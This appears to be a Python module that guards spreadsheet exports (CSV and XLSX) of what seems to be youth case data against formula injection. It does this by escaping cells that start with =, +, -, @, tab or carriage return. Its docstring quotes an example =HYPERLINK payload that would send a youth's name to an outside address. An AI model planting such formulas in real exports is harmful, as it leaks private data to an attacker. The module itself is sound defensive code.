"""Values written into spreadsheet cells (XLSX, CSV) are data, never formulas (privacy rule 7).

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return can smuggle one past a check ("CSV injection"). An officer
name ``=HYPERLINK("https://...?d="&A2, "Open case file")`` would send the youth's name in A2 to
whoever wrote it. So every value the service writes to a cell goes through this module:

- XLSX (openpyxl): such a text is stored as a string cell with Excel's "quote prefix" style (shown
  and edited as text); nothing is ever stored as a formula.
- CSV: such a text gets a leading apostrophe (OWASP's advice; spreadsheet programs hide it and show
  the rest as text).
- Numbers stay numbers: ``-3`` (an int, a float, or a text that is just a number) is left alone.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

import pandas as pd

#: what makes a spreadsheet program read a cell as a formula (or lets one through)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def is_formula_like(value: object) -> bool:
    """True for a text a spreadsheet would evaluate (a plain number like "-3" is not)."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(value)


def csv_value(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: formula-like text gets a leading apostrophe."""
    return "'" + value if is_formula_like(value) else value


def from_csv_value(text: str) -> str:
    """What ``csv_value`` was given: the apostrophe it added taken off again (reading our own CSV)."""
    return text[1:] if text.startswith("'") and is_formula_like(text[1:]) else text


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_value``.

    A row with a line break in a value is written with every field quoted: ``csv`` quotes only
    the characters of its own line terminator, so a bare carriage return would split the row.
    """

    def __init__(self, fh: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(fh, **kwargs)
        self._quoting_writer = csv.writer(fh, **{**kwargs, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[Any]) -> Any:
        values = [csv_value(v) for v in row]
        breaks = any(isinstance(v, str) and ("\r" in v or "\n" in v) for v in values)
        return (self._quoting_writer if breaks else self._writer).writerow(values)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with formula-like text (headers too) made safe for ``to_csv``; the same frame,
    not a copy, when nothing needs it (a matcher's output can have millions of rows)."""
    fixed = {}
    for column in frame.columns:
        values = frame[column]
        if not (values.dtype == object or pd.api.types.is_string_dtype(values)):
            continue
        risky = values.map(is_formula_like, na_action="ignore").fillna(False).astype(bool)
        if risky.any():
            fixed[column] = values.where(~risky, values[risky].map(csv_value))
    headers = [csv_value(c) for c in frame.columns]
    if not fixed and headers == list(frame.columns):
        return frame
    out = frame.assign(**{str(c): v for c, v in fixed.items()}) if fixed else frame.copy()
    out.columns = headers
    return out


def append_row(ws: Any, values: Iterable[Any]) -> None:
    """``ws.append(values)`` on an openpyxl sheet, with no cell a formula."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        as_text(cell)


def as_text(cell: Any) -> None:
    """Make one openpyxl cell hold its text as a string, never a formula."""
    value = cell.value
    if cell.data_type == "f" or is_formula_like(value):
        cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula: undo that
        cell.quotePrefix = True  # Excel shows and edits it as text
